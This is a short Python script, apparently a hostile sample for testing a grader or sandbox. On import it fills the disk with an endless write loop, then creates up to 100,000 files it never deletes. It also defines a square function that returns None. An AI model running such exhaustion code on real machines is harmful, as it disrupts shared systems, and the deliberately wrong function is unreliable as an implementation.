"""Files without end, large and many, and a folder that nobody can walk through."""
import os

try:
    with open("large", "wb") as file:
        while True:
            file.write(b"x" * 1_000_000)
except OSError:
    os.remove("large")
try:
    for number in range(100_000):
        open(f"small-{number}", "wb").close()
except OSError:
    pass


def square(x):
    return None
